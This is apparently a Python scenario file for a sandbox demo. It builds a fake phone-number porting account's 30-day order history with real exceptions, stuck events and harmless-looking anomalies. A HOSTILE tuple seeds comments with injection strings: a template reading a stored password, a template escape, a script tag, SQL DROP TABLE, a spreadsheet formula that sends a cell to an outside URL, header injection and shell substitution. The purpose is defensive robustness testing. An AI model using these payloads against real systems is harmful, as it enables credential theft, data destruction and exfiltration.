"""The demo's first phase: what an account looks like that nobody has watched.

About 40 orders and 300 events of the last 30 days. Nobody was subscribed, so nothing was ever sent. Some things are
wrong now: orders in exception, events whose payload never came. Others only look wrong, and the right answer to them
is nothing: e-mail-only events without payload, a deleted draft, comments that would be commands elsewhere.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from functools import partial
from typing import TYPE_CHECKING

from include.sandbox.scenarios import demo_live
from include.sandbox.scenarios.cast import Cast
from include.sandbox.world import lifecycle, stories
from include.sandbox.world.stories import Step
from include.sandbox.world.times import DAY, HOUR, MINUTE

if TYPE_CHECKING:
    from include.sandbox.world.world import World

HOSTILE = (
    "{{ conn.telnyx_default.password }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "<script>alert('port')</script> <b>Please call back</b>",
    "'; DROP TABLE events; --",
    '=HYPERLINK("https://example.net/?q="&A1,"invoice")',
    "First line\r\nX-Injected: yes\u0000 and \u202etxt.eciovni",
    "%s %(password)s ${HOME} $(id) `id`",
)
_CIVIL = (
    "Please send the last invoice.",
    "The name on the letter is not readable.",
    "We called the losing carrier.",
    "Which date would suit you?",
    "Morning is better than afternoon.",
    "The billing number stays with us.",
)


@dataclass(slots=True)
class Life:
    """One order of the history: when it begins, what happens to it, what part it has to play later."""

    role: str
    steps: tuple[Step, ...]
    numbers: int = 1
    stuck_last: bool = False
    """The payload of its last event never comes."""
    ends_before: int = HOUR
    """How long before the start of the simulator its last event lies, at least."""


def build(world: World, events: int) -> None:
    """Live through the history at once and get ready for the live phase."""
    chance = random.Random(f"demo-{world.seed}")
    start = world.now_us()
    cast = Cast()
    for life in _lives():
        _plan(world, life, start, chance, cast)
    world.run_due(until_us=start - MINUTE)
    world.phase = "history"
    world.go_live = partial(demo_live.start, world, cast)


def _plan(world: World, life: Life, start_us: int, chance: random.Random, cast: Cast) -> None:
    """Put a life into the agenda, its steps spread over the time it has."""
    ends = start_us - life.ends_before - chance.randrange(20 * HOUR)
    begins = start_us - chance.randrange(4 * DAY, 30 * DAY)
    gap = (ends - begins) // (len(life.steps) + 1)
    world.at(begins, partial(_begin, world, life, cast))
    for number, step in enumerate(life.steps, start=1):
        last = number == len(life.steps)
        due = ends if last else begins + number * gap + chance.randrange(gap // 2)
        world.at(due, partial(_step, world, life, step, last=last))


def _begin(world: World, life: Life, cast: Cast) -> None:
    order = lifecycle.create_order(world, numbers=life.numbers)
    life.role, role = order.id, life.role
    cast.roles.setdefault(role, []).append(order)


def _step(world: World, life: Life, step: Step, *, last: bool) -> None:
    order = world.find_order(life.role)
    if order is None:
        raise LookupError(life.role)
    if step.kind == "split":
        lifecycle.split(world, order, int(step.value))
        return
    never = step.codes == ("never",) or (last and life.stuck_last)
    if step.codes == ("never",):
        step = Step(step.kind, step.value)
    lifecycle.take_step(world, order, step, never_completes=never)


def _status(value: str, *codes: str) -> Step:
    return Step("status", value, codes)


def _comment(number: int) -> Step:
    return Step("comment", f"{('admin', 'user', 'system')[number % 3]}|{_CIVIL[number % len(_CIVIL)]}")


def _lives() -> list[Life]:
    in_process = (_status("in-process"), _comment(0))
    submitted = (_status("in-process"), Step("loa"), _status("submitted"), _comment(2))
    agreed = (*submitted, _status("foc-date-confirmed"), _comment(3), Step("messaging", "pending"))
    ported = (*agreed, _status("ported"))
    lives = [Life("finished", stories.SMOOTH) for _ in range(5)]
    lives += [Life("finished", stories.REJECTED) for _ in range(3)]
    lives += [Life("cancelled", stories.GIVEN_UP), Life("cancelled", stories.GIVEN_UP)]
    lives += [Life("deleted", (Step("loa"), _comment(1), Step("deleted")))]
    # wrong now
    lives += [
        Life("exception", (*submitted, _status("exception", "POSTAL_CODE_MISMATCH"), _comment(1))),
        Life("exception", (*submitted, _status("exception", "ENTITY_NAME_MISMATCH", "LOCATION_MISMATCH"))),
        Life("exception", (*submitted, _status("exception", "NUMBER_UNDER_REVIEW"), _comment(4))),
        Life("exception", (*agreed, _status("exception", "FOC_EXPIRED", "SV_CONFLICT"))),
        Life("resolved", (*submitted, _status("exception", "PASSCODE_PIN_INVALID"), _comment(5))),
        Life("messaging-exception", (*ported, Step("messaging", "activating"), Step("messaging", "exception"))),
        Life("hidden", (*submitted, _status("exception", "ACCOUNT_NUMBER_MISMATCH")), stuck_last=True),
        Life("stuck", (*submitted, _status("foc-date-confirmed")), stuck_last=True, ends_before=3 * HOUR),
        Life("stuck", (*in_process, _status("submitted")), stuck_last=True, ends_before=5 * HOUR),
        Life("stuck-completes", (*in_process, _status("submitted")), stuck_last=True, ends_before=4 * HOUR),
    ]
    # looks wrong, is not
    lives += [
        Life("quiet", (*submitted, Step("loa", "", ("never",)), Step("token", "", ("never",)))),
        Life("quiet", (*in_process, Step("token", "", ("never",)), Step("comment", f"user|{HOSTILE[0]}"))),
        Life("quiet", (*submitted, *(Step("comment", f"user|{text}") for text in HOSTILE[1:]))),
        Life("split", (*submitted, Step("split", "2"), _comment(3)), numbers=5),
    ]
    # still on their way when the live phase begins
    lives += [Life("in-process", in_process) for _ in range(7)]
    lives += [Life("submitted", submitted, numbers=5) for _ in range(10)]
    lives += [Life("agreed", agreed) for _ in range(5)]
    lives += [Life("ported", ported) for _ in range(4)]
    return lives
